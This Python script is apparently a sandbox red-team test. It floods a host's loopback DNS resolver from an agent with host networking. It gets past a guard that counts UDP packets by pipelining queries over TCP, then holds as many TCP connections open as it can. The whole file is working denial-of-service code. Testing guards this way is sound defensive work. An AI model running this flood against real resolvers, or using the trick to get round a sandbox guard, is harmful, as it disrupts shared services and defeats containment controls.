#!/usr/bin/python3
# Red team 42: a --net host agent floods the host's resolver on the loopback past the connect
# guard's per-packet count of loopback UDP (64 per 2 s), by carrying its queries over TCP, which
# the guard counts per connection only. Phases of <secs> seconds each:
#   udp    one connected UDP socket, one query a datagram (the counted baseline)
#   tcp    ONE TCP connection, queries pipelined back to back (RFC 7766), never reading answers
#   hold   as many TCP connections to the resolver as the guard lets it open, all kept open
# Usage: tcp_dns_flood.py <dir> <resolver> <secs> <phase>...; results to <dir>/flood.log.
import os, socket, struct, sys, time
d, resolver, secs, phases = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4:]
out = open(f"{d}/flood.log", "a", buffering=1)

def query(tag, n):
    name = f"{tag}-{n}".encode()
    q = struct.pack(">HHHHHH", n & 0xffff, 0x0100, 1, 0, 0, 0)
    q += bytes([len(name)]) + name + b"\x07example\x00" + struct.pack(">HH", 1, 1)
    return q

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((resolver, 53)); s.setblocking(False)
    sent = err = 0; end = time.time() + secs
    while time.time() < end:
        try:
            s.send(query("udp", sent)); sent += 1
        except OSError:
            err += 1; time.sleep(0.0005)
    out.write(f"udp: {sent} queries sent, {err} refused\n"); s.close()

def tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(secs + 1)
    try:
        s.connect((resolver, 53))
    except OSError as e:
        out.write(f"tcp: connect refused: {e.strerror}\n"); s.close(); return
    sent = 0; end = time.time() + secs
    batch = b""
    while time.time() < end:
        batch = b"".join(struct.pack(">H", len(q)) + q for q in (query("tcp", sent + i) for i in range(256)))
        s.sendall(batch); sent += 256
    out.write(f"tcp: {sent} queries sent on one connection\n"); s.close()

def hold():
    held = []; refused = 0; errs = {}; end = time.time() + secs
    while time.time() < end:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.connect((resolver, 53)); held.append(s)
        except OSError as e:
            s.close(); refused += 1; errs[e.strerror] = errs.get(e.strerror, 0) + 1
            time.sleep(0.01)
    out.write(f"hold: {len(held)} connections open, {refused} refused {errs}\n")
    time.sleep(2)
    for s in held: s.close()

for p in phases:
    {"udp": udp, "tcp": tcp, "hold": hold}[p]()
    time.sleep(2.2)  # the next phase starts in a fresh window
out.write("done\n")
time.sleep(600)
